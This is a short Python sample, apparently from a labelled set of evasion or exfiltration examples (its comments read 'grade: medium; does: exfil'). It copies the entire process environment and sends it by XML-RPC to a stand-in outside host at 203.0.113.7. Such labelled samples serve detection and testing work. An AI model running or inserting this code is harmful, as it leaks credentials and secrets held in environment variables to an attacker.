# evasion: the environment sent as an XML-RPC call argument
# grade: medium; does: exfil
import os
import xmlrpc.client

proxy = xmlrpc.client.ServerProxy("http://203.0.113.7:8000/")
proxy.report(os.environ.copy())
